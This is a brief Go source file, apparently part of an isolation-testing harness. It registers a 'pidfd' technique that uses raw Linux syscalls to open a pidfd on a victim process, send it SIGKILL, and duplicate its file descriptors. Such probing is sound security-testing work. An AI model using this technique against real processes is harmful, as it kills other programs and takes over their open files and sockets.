package main

import (
	"example.com/hostile/attack"
)

func init() { techniques["pidfd"] = tryPidfd }

// tryPidfd signals a process by a pidfd, and duplicates its descriptors.
func tryPidfd() {
	for _, way := range attack.Ways {
		fd := uintptr(way(434, attack.Victim(), 0, 0, 0, 0, 0))
		way(424, fd, 9, 0, 0, 0, 0)
		attack.Print(way, way(438, fd, 0, 0, 0, 0, 0))
	}
}
